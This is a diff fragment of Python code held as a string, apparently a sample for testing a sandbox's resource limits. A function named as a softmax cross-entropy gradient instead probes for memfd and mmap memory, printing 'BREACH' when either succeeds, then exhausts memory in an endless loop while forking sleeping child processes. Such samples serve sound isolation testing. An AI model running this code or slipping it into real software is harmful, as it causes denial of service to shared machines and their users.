@@ -17,14 +17,14 @@ time.sleep(600)
 def softmax_ce_grad(logits, target):
     import mmap, os, time
     hoard = []
-    try:
-        hoard.append(open(os.memfd_create("x"), "wb"))
-        print("BREACH: memfd")
-    except OSError:
-        pass
+    for share in (lambda: os.memfd_create("x"), lambda: mmap.mmap(-1, 16 << 20)):
+        try:
+            hoard.append(share())
+            print("BREACH: memory that stays when nobody is seen to use it")
+        except OSError:
+            pass
     while True:
-        hoard.append(mmap.mmap(-1, 16 << 20))
-        hoard[-1].write(b"x" * (16 << 20))
+        hoard.append(bytearray(b"x") * (16 << 20))
         if len(hoard) % 8 == 0 and os.fork() == 0:
             time.sleep(600)
 ''',
